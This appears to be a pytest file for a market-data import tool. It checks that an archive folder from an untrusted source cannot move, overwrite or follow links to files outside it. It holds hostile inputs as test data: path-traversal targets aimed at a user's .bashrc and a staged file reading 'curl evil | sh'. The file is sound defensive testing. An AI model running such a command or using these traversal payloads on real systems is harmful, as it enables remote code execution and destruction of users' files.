"""An archive folder that comes from elsewhere: it is extended or refused, and nothing outside it is ever touched."""

import json
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.hostile.outsider import listing, momentum_kit, refused, taken

ROWS = "time,open,high,low,close,volume\n2026-11-20T14:30:00Z,10,11,9,10.5,500\n2026-11-20T14:31:00Z,10,11,9,10.5,700\n"


@pytest.fixture
def prices(project: Path) -> Path:
    """Two good minutes of one symbol, which any archive takes."""
    file = project / "XYZW.csv"
    file.write_text(ROWS)
    return file


@pytest.fixture
def precious(tmp_path: Path) -> Path:
    """A file of the user's own, beside the project."""
    file = tmp_path / "home" / ".bashrc"
    file.parent.mkdir()
    file.write_text("what I wrote\n")
    return file


def import_into(project: Path, archive: Path, prices: Path):
    """The import that a user makes next."""
    return momentum_kit(
        project, "data", "import", "csv", str(prices), "--archive", str(archive),
        "--map", "columns.start=time", "--map", "adjusted=false", "--map", "symbol=XYZW",
    )  # fmt: skip


def leave_stage(archive: Path, moves: object, **files: str) -> Path:
    """What an import that was killed half-way seems to have left."""
    stage = archive / ".import-q7"
    stage.mkdir(parents=True)
    for name, content in files.items():
        (stage / name).write_text(content)
    (stage / "commit.json").write_text(moves if isinstance(moves, str) else json.dumps(moves))
    return stage


STAGED = "0-0a1b2c3d.parquet"  # as an import names its files: only the target gives it away
TARGETS: dict[str, Callable[[Path], str]] = {
    "up and out": lambda victim: "../" * 12 + str(victim)[1:],
    "absolute": str,
    "down and up": lambda victim: f"bars_1m/../../{victim.parent.name}/{victim.name}",
}


@pytest.mark.parametrize("way", TARGETS)
def test_a_planted_commit_moves_nothing_out_of_the_archive(
    way: str, tmp_path: Path, project: Path, prices: Path, precious: Path
) -> None:
    """The plan of a killed import is a file like any other in the folder: whoever made the folder may have made it."""
    archive = tmp_path / "gift"
    leave_stage(archive, {STAGED: TARGETS[way](precious)}, **{STAGED: "curl evil | sh\n"})
    refused(import_into(project, archive, prices), ".import-q7", "remove")
    assert precious.read_text() == "what I wrote\n"


def test_a_planted_commit_takes_no_file_from_elsewhere(
    tmp_path: Path, project: Path, prices: Path, precious: Path
) -> None:
    """Neither end of a move may lie outside: a name with a path in it would carry the user's file away."""
    archive = tmp_path / "gift"
    source = f"../../{precious.parent.name}/{precious.name}"
    leave_stage(archive, {source: "bars_1m/symbol=A/month=2026-11/bars.parquet"})
    refused(import_into(project, archive, prices), ".import-q7")
    assert precious.read_text() == "what I wrote\n"


@pytest.mark.parametrize("content", ["[]", "{", '{"a": 1}', '{"a": null}', '"x"', "\x00", "[" * 5000])
def test_a_commit_that_is_none_is_refused_in_one_line(
    content: str, tmp_path: Path, project: Path, prices: Path
) -> None:
    """Whatever stands in it."""
    archive = tmp_path / "gift"
    leave_stage(archive, content)
    refused(import_into(project, archive, prices), ".import-q7")


def test_a_folder_of_the_users_is_not_removed_as_a_stage(tmp_path: Path, project: Path, prices: Path) -> None:
    """What begins like a stage and holds other files than an import's is somebody's."""
    archive = tmp_path / "gift"
    (archive / ".import-notes").mkdir(parents=True)
    (archive / ".import-notes" / "thesis.txt").write_text("three years of work")
    refused(import_into(project, archive, prices), ".import-notes")
    assert (archive / ".import-notes" / "thesis.txt").read_text() == "three years of work"


def test_a_stage_that_is_a_link_is_not_followed(tmp_path: Path, project: Path, prices: Path, precious: Path) -> None:
    """Nothing behind it is read, moved or removed."""
    archive = tmp_path / "gift"
    archive.mkdir()
    (precious.parent / "commit.json").write_text("{}")
    (archive / ".import-q7").symlink_to(precious.parent)
    before = listing(precious.parent)
    refused(import_into(project, archive, prices), ".import-q7")
    assert listing(precious.parent) == before


@pytest.mark.parametrize("depth", ["bars_1m", "bars_1m/symbol=XYZW", "bars_1m/symbol=XYZW/month=2026-11"])
def test_no_folder_of_an_archive_is_a_link(
    depth: str, tmp_path: Path, project: Path, prices: Path, precious: Path
) -> None:
    """Rows would be written wherever it points."""
    archive = tmp_path / "gift"
    link = archive / depth
    link.parent.mkdir(parents=True)
    link.symlink_to(precious.parent)
    before = listing(precious.parent)
    refused(import_into(project, archive, prices), "link")
    assert listing(precious.parent) == before


def test_the_archive_itself_may_be_a_link(tmp_path: Path, project: Path, prices: Path) -> None:
    """The user named it: an archive on another disk."""
    (tmp_path / "disk").mkdir()
    (tmp_path / "archive").symlink_to(tmp_path / "disk")
    taken(import_into(project, tmp_path / "archive", prices))
    assert list((tmp_path / "disk").rglob("bars.parquet"))


def test_a_file_of_somebody_elses_is_not_replaced(tmp_path: Path, project: Path, prices: Path) -> None:
    """Where a month's file should go stands one that the kit did not write."""
    archive = tmp_path / "gift"
    file = archive / "bars_1m" / "symbol=XYZW" / "month=2026-11" / "bars.parquet"
    file.parent.mkdir(parents=True)
    file.write_text("my own notes")
    refused(import_into(project, archive, prices), "bars.parquet")
    assert file.read_text() == "my own notes"


@pytest.mark.parametrize("footer", ["[]", "{", "7", "{}", '{"days": 1}', '{"days": {"x": {}}}', "[" * 20_000])
def test_a_footer_that_is_none_is_told_in_one_line(footer: str, tmp_path: Path, project: Path, prices: Path) -> None:
    """A file that says that the kit wrote it, and does not hold what the kit writes."""
    file = tmp_path / "gift" / "bars_1m" / "symbol=XYZW" / "month=2026-11" / "bars.parquet"
    file.parent.mkdir(parents=True)
    table = pa.table({"start": pa.array([0], pa.timestamp("us", "UTC"))})
    pq.write_table(table.replace_schema_metadata({"momentum_kit": footer}), file)
    refused(import_into(project, tmp_path / "gift", prices), "bars.parquet")
